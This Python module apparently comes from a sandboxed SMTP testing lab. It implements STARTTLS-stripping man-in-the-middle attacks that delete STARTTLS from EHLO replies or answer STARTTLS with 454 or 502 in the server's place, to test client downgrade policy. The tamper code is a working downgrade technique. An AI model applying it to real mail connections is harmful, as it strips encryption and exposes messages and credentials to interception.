"""STARTTLS stripping: the man in the middle keeps the session in plaintext.

Three labs: `strip` deletes STARTTLS from the server's EHLO reply; `strip-454` and `strip-502` let
it stand and answer the client's STARTTLS in the server's place, as a server whose TLS is broken
(454) or missing (502) would. Either way the STARTTLS command never reaches the server, so the
server's side stays plaintext; what the client does next is up to its policy (properties.md F2).
"""

from __future__ import annotations

from sandbox.smtpd.policy import Replies
from sandbox.threats.lines import LineTamper, StartTlsEraser, announce, is_command, show
from sandbox.threats.spec import Attack
from sandbox.wire.tamper import TapControl

NOT_RECOGNIZED = b"502 5.5.2 Error: command not recognized"  # Postfix, for a verb it lacks
NOT_IMPLEMENTED = b"502 5.5.1 Error: command not implemented"


class Strip(LineTamper):
    """`reply=None` deletes STARTTLS from the EHLO reply (and answers a STARTTLS sent anyway with
    502, as a server without TLS would); with a reply such as `b"454 4.7.0 TLS not available"`
    the EHLO stands and the attacker answers STARTTLS himself."""

    def __init__(self, reply: bytes | None = None) -> None:
        super().__init__()
        self.reply = reply or NOT_RECOGNIZED
        self._eraser = StartTlsEraser() if reply is None else None

    def client_line(self, line: bytes, conn: TapControl) -> bytes:
        if not is_command(line, b"STARTTLS"):
            return line
        reply = self.reply.decode("ascii")
        announce(conn, "attack.answers_starttls", reply=reply)
        conn.send_to_client(self.reply + b"\r\n")
        return b""  # the server never hears of it

    def server_line(self, line: bytes, conn: TapControl) -> bytes:
        if self._eraser is None:
            return line
        out, erased = self._eraser.line(line)
        if erased:
            announce(conn, "attack.deleted_starttls", line=show(line))
        return out


ATTACKS = (
    Attack(
        "strip",
        summary="A man in the middle deletes STARTTLS from the server's EHLO reply.",
        notice="a man in the middle deletes STARTTLS from the server's EHLO reply.",
        tamper=Strip,
    ),
    Attack(
        "strip-454",
        summary="A man in the middle answers STARTTLS with 454 in the server's place.",
        notice="a man in the middle answers STARTTLS with 454 in the server's place.",
        tamper=lambda: Strip(Replies.TLS_NOT_AVAILABLE.encode("ascii")),
    ),
    Attack(
        "strip-502",
        summary="A man in the middle answers STARTTLS with 502 in the server's place.",
        notice="a man in the middle answers STARTTLS with 502 in the server's place.",
        tamper=lambda: Strip(NOT_IMPLEMENTED),
    ),
)
